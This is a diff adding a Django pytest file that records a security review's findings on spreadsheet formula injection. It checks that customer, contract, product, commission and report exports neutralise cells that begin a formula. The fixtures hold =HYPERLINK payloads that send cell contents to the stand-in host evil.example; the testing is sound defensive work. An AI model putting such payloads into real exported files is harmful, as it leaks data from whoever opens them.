@@ -1,0 +1,135 @@
+"""The trust probe's findings, each written as the attack it was (one test per finding, or per door of one).
+
+Every test here failed before its fix. Kept together so the next probe starts from what the last one found.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+from decimal import Decimal
+
+import pytest
+import time_machine
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from core.exports import safe_cell
+from customers.tests.factories import CustomerFactory
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the invoice")'
+
+
+@pytest.fixture(autouse=True)
+def english():
+    from django.core.cache import cache
+    from django.utils import translation
+
+    cache.clear()
+    with translation.override("en"):
+        yield
+
+
+def csv_cells(body: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
+
+
+def xlsx_cells(body: bytes) -> list:
+    wb = load_workbook(io.BytesIO(body))
+    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell became a formula"
+    return [c.value for c in cells]
+
+
+def assert_inert(values) -> None:
+    values = [v for v in values if isinstance(v, str)]
+    assert "'" + HOSTILE in values, "the hostile name is exported, as text"
+    assert not [v for v in values if v and v[0] in "=+-@\t\r"], "no cell starts a formula"
+
+
+# --- 1. Spreadsheet formula injection ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+886 2 2700 1234", "'+886 2 2700 1234"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Acme = good", "Acme = good"),
+        (Decimal("-12.50"), Decimal("-12.50")),
+        (-3, -3),
+        (None, None),
+    ],
+)
+def test_safe_cell_escapes_formula_starts_and_keeps_numbers(value, expected):
+    assert safe_cell(value) == expected
+
+
+def test_customer_exports_do_not_run_a_hostile_name(client, salesperson):
+    CustomerFactory(owner=salesperson, name=HOSTILE, short_name="@evil", phone="")
+    client.force_login(salesperson)
+    assert_inert(csv_cells(client.get(reverse("customers:export", args=["csv"])).content))
+    assert_inert(xlsx_cells(client.get(reverse("customers:export", args=["xlsx"])).content))
+
+
+def test_customer_filing_xlsx_does_not_run_a_hostile_name(client, manager, salesperson):
+    with time_machine.travel(dt.datetime(2026, 2, 3, 10, 0, tzinfo=dt.UTC)):
+        customer = CustomerFactory(owner=salesperson, name=HOSTILE, phone="")
+        customer.registered_at = timezone.now() - dt.timedelta(days=40)
+        customer.save(update_fields=["registered_at"])
+        client.force_login(manager)
+        url = reverse("customers:filing_export", args=[salesperson.unit_id]) + "?month=2026-01"
+        response = client.get(url)
+        assert response.status_code == 200
+        assert_inert(xlsx_cells(response.content))
+
+
+def test_contract_csv_does_not_run_a_hostile_customer_name(client, salesperson):
+    from sales.tests.factories import ContractFactory
+
+    ContractFactory(customer=CustomerFactory(owner=salesperson, name=HOSTILE, phone=""))
+    client.force_login(salesperson)
+    response = client.get(reverse("sales:contract_export"))
+    assert response.status_code == 200
+    assert_inert(csv_cells(b"".join(response.streaming_content)))
+
+
+def test_product_csv_does_not_run_a_hostile_product_name(client, salesperson):
+    from sales.tests.factories import priced_product
+
+    priced_product(name=HOSTILE)
+    client.force_login(salesperson)
+    response = client.get(reverse("sales:product_export"))
+    assert_inert(csv_cells(b"".join(response.streaming_content)))
+
+
+def test_commission_xlsx_does_not_run_a_hostile_customer_name(client, finance, salesperson):
+    from commission.tests.factories import PaymentFactory, sold_contract
+
+    with time_machine.travel(dt.datetime(2026, 3, 5, 9, 0, tzinfo=dt.UTC)):
+        contract = sold_contract(owner=salesperson, shipped_on=None)
+        contract.customer.short_name = '=HYPERLINK("http://evil.example","x")'
+        contract.customer.save(update_fields=["short_name"])
+        PaymentFactory(contract=contract, paid_on=dt.date(2026, 1, 20), amount=Decimal("12000.00"))
+        client.force_login(finance)
+        response = client.get("/commission/export/2026-01.xlsx")
+        assert response.status_code == 200
+        values = xlsx_cells(response.content)
+        assert '\'=HYPERLINK("http://evil.example","x")' in values
+
+
+def test_report_xlsx_tables_do_not_run_hostile_text():
+    from reports.exports import xlsx_response
+
+    response = xlsx_response("x.xlsx", "t", ["name", "amount"], [[HOSTILE, Decimal("-5")]])
+    values = xlsx_cells(response.content)
+    assert_inert(values)
+    assert -5 in values, "a negative number stays a number"
